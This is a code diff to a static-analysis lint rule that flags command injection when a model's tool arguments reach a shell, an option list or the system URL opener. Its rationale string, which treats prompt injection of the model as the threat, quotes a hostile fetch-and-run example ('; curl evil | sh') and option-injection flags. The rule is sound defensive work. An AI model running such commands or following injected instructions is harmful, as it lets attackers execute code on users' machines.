@@ -16,6 +16,9 @@ const VALUE_OPTIONS: Record<string, ReadonlySet<string>> = {
   podman: new Set(["--name", "-w", "--workdir", "-u", "--user", "--network"]),
 };
 
+/** Packages that open a URL or file with the system's default handler (`start` through a shell on Windows, xdg-open elsewhere). */
+const URL_OPENERS = new Set(["open", "opn", "better-opn"]);
+
 /** Container commands whose options end at the container or image: what follows is the command run inside it. */
 const CONTAINER_RUNNERS = new Set(["docker", "podman", "nerdctl"]);
 const RUN_SUBCOMMANDS = new Set(["run", "exec", "create"]);
@@ -34,11 +37,12 @@ export default createRule({
       shell: "{{source}} reaches {{api}}, which hands it to a shell: {{who}} can run any command on the host.",
       program: "{{source}} chooses the program {{api}} runs: {{who}} can run any binary on the host.",
       argumentInjection: "{{source}} can start with \"-\" in the argument list of `{{program}}` ({{api}}), where an option can run commands or overwrite files; put \"--\" before it or reject values starting with \"-\".",
+      openUrl: "{{source}} is opened with the system's URL handler ({{api}}): on Windows it passes through a shell, and a file: or custom-scheme URL starts programs, so {{who}} can run commands on the user's machine. Allow only http(s) URLs (e.g. strict-url-sanitise) before opening.",
       schemaNumber: "{{source}} is spliced into a command line that {{api}} hands to a shell. Its schema makes it a number, so it cannot inject today, but only the schema stands between the model and the shell: run the program with execFile and an argument list.",
     },
     docs: {
       rationale:
-        "A tool's arguments are chosen by a model that any web page, issue or document can prompt-inject. A command line built from them and run by a shell (exec, execSync, spawn with shell: true, execaCommand, shelljs.exec) lets an injected `; curl evil | sh` run on the user's machine. Without a shell, a value that starts with `-` still becomes an option (git --upload-pack, find -exec, curl -o).",
+        "A tool's arguments are chosen by a model that any web page, issue or document can prompt-inject. A command line built from them and run by a shell (exec, execSync, spawn with shell: true, execaCommand, shelljs.exec) lets an injected `; curl evil | sh` run on the user's machine. Without a shell, a value that starts with `-` still becomes an option (git --upload-pack, find -exec, curl -o). Opening a URL with the system's handler (the open package) runs whatever its scheme names; an MCP client that opens the authorization URL a remote server sends was exploited this way (CVE-2025-6514).",
       remediation:
         "Run the program without a shell and pass each value as its own argument: `execFile('git', ['log', '--', ref])`. Put `--` before values that are not options, or validate them with an anchored allowlist (`z.string().regex(/^[\\w.-]+$/)`, `z.enum([...])`). Never let the model choose the program.",
       examples: {
@@ -70,6 +74,7 @@ export default createRule({
     const check = (node: ts.CallExpression | ts.NewExpression | ts.TaggedTemplateExpression) => {
       const launch = processLaunch(node, context);
       if (launch) inspect(launch, context);
+      else if (ts.isCallExpression(node)) openedUrl(node, context);
     };
     return { CallExpression: check, NewExpression: check, TaggedTemplateExpression: check };
   },
@@ -120,6 +125,16 @@ function inspect(launch: ProcessLaunch, context: RuleContext): void {
       }
     }
   }
+}
+
+/** open(url): the system's URL handler runs whatever the scheme names. */
+function openedUrl(call: ts.CallExpression, context: RuleContext): void {
+  const api = context.api(call.expression);
+  const target = call.arguments[0];
+  if (!api || !target || !URL_OPENERS.has(api.module) || (api.path.length > 0 && api.path.join(".") !== "default")) return;
+  const hit = unsanitized(context.taint(target));
+  if (!hit) return;
+  context.report({ node: call, messageId: "openUrl", data: { source: describeSource(hit), who: attacker(hit), api: api.module }, trace: context.trace(hit, target, `opens it (${api.module})`), ...toolOf(hit, call, context) });
 }
 
 function argumentInjection(launch: ProcessLaunch, program: string, args: ts.Expression, context: RuleContext): void {
